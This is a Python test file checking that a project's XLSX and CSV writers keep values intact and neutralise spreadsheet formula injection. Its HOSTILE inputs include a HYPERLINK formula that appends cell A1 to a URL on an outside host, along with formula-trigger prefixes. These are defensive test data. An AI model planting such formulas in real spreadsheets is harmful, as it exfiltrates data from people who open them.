"""Tables as XLSX and as CSV: read again by other libraries, they hold what was put in, and nothing in them is ever worked out."""

from __future__ import annotations

import csv
import datetime
import subprocess
import sys
import zipfile
from io import BytesIO, StringIO
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest

from ispc.outputs.csvfile import table
from ispc.outputs.spreadsheet import LONGEST_TEXT, Sheet, workbook

DAY = datetime.date(2026, 11, 22)
HOSTILE = (
    '=HYPERLINK("https://example.org/?"&A1,"more")',
    "+441632960123",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
)
SHEET = Sheet(
    "In force",
    ("Document", "Review due", "Parties", "Signed by all", "Note"),
    (
        (
            "Keeping children safe",
            datetime.date(2027, 5, 1),
            12,
            True,
            "Ŵyr a wŷr: “two\nlines”, and a comma",
        ),
        ("Housing", None, -1, False, "00123"),
        *((words, None, None, None, "https://example.org/a") for words in HOSTILE),
    ),
    (30, 14, 10, 10, 50),
)


def read(made: bytes) -> Any:
    return openpyxl.load_workbook(BytesIO(made))


def comma_separated(made: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(made.decode("utf-8-sig"), newline="")))


# -- XLSX -------------------------------------------------------------------------------------------------------------


def test_a_workbook_holds_what_was_put_in_as_what_it_is() -> None:
    (sheet,) = read(workbook((SHEET,), DAY)).worksheets
    assert sheet.title == "In force"
    header, first, second, *others = sheet.iter_rows()
    assert tuple(cell.value for cell in header) == SHEET.columns
    assert [cell.value for cell in first] == [
        "Keeping children safe",
        datetime.datetime(2027, 5, 1),
        12,
        True,
        "Ŵyr a wŷr: “two\nlines”, and a comma",
    ]
    assert first[1].is_date
    assert [cell.value for cell in second] == ["Housing", None, -1, False, "00123"]
    assert [cell.value.replace("_x000D_", "\r") for cell, *_ in others] == list(HOSTILE)


def test_no_text_becomes_a_formula_a_number_or_a_link() -> None:
    made = workbook((SHEET,), DAY)
    (sheet,) = read(made).worksheets
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert len(texts) > 20
    assert {cell.data_type for cell in texts} == {"s"}
    with zipfile.ZipFile(BytesIO(made)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
        assert not [name for name in parts.namelist() if "externalLink" in name or "vba" in name]
        assert not [name for name in parts.namelist() if name.endswith("sheet1.xml.rels")]


def test_the_header_stays_in_sight_and_the_rows_can_be_filtered() -> None:
    (sheet,) = read(workbook((SHEET,), DAY)).worksheets
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E11"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet["E2"].alignment.wrap_text
    assert round(sheet.column_dimensions["E"].width) in (50, 51)


def test_there_may_be_several_sheets_and_one_may_be_empty() -> None:
    empty = Sheet("What [is] late: and/or due, as the partnership stands", ("Document",), ())
    book = read(workbook((SHEET, empty), DAY))
    assert book.sheetnames == ["In force", "What is late and or due, as the"]
    assert [cell.value for cell in book.worksheets[1][1]] == ["Document"]


def test_columns_without_widths_are_as_wide_as_their_words_up_to_a_limit() -> None:
    (sheet,) = read(workbook((Sheet("A", ("Id", "Text"), (("a", "word " * 200),)),), DAY)).worksheets
    narrow, wide = (sheet.column_dimensions[name].width for name in "AB")
    assert narrow < 10 < 40 < wide < 70


def test_a_workbook_says_the_day_and_no_other() -> None:
    made = workbook((SHEET,), DAY)
    assert read(made).properties.created == datetime.datetime(2026, 11, 22)
    with zipfile.ZipFile(BytesIO(made)) as parts:
        assert {one.date_time[0] for one in parts.infolist()} == {1980}


def test_the_same_tables_give_the_same_bytes_in_another_process_and_time_zone() -> None:
    code = (
        "import sys\nfrom tests.test_spreadsheet import DAY, SHEET, table, workbook\n"
        "sys.stdout.buffer.write(workbook((SHEET,), DAY) + table(SHEET))"
    )
    environment = {"TZ": "Pacific/Auckland", "PYTHONHASHSEED": "7", "PATH": ""}
    other = subprocess.run([sys.executable, "-c", code], env=environment, capture_output=True, check=True)
    assert other.stdout == workbook((SHEET,), DAY) + table(SHEET)


@pytest.mark.parametrize(
    "sheet",
    [
        Sheet("A", ("Text",), (("a" * (LONGEST_TEXT + 1),),)),
        Sheet("A", ("One", "Two"), (("one",),)),
    ],
    ids=["a text that no cell holds", "a row that is too short"],
)
def test_what_would_be_lost_is_refused(sheet: Sheet) -> None:
    with pytest.raises(ValueError):
        workbook((sheet,), DAY)


# -- CSV --------------------------------------------------------------------------------------------------------------


def test_csv_holds_what_was_put_in() -> None:
    header, first, second, *_ = comma_separated(table(SHEET))
    assert tuple(header) == SHEET.columns
    assert first == [
        "Keeping children safe",
        "2027-05-01",
        "12",
        "TRUE",
        "Ŵyr a wŷr: “two\nlines”, and a comma",
    ]
    assert second == ["Housing", "", "-1", "FALSE", "00123"]


def test_no_text_of_a_csv_begins_like_a_formula() -> None:
    _, _, _, *others = comma_separated(table(SHEET))
    assert [row[0] for row in others] == [f"'{words}" for words in HOSTILE]


def test_a_heading_does_not_begin_like_a_formula_either() -> None:
    assert comma_separated(table(Sheet("A", ("=1+1",), ()))) == [["'=1+1"]]


def test_csv_is_utf_8_with_its_mark_and_crlf() -> None:
    made = table(Sheet("A", ("One", "Two"), (("é", None),)))
    assert made == b"\xef\xbb\xbfOne,Two\r\n\xc3\xa9,\r\n"


def test_a_row_of_csv_has_a_value_for_each_column() -> None:
    with pytest.raises(ValueError):
        table(Sheet("A", ("One",), (("a", "b"),)))
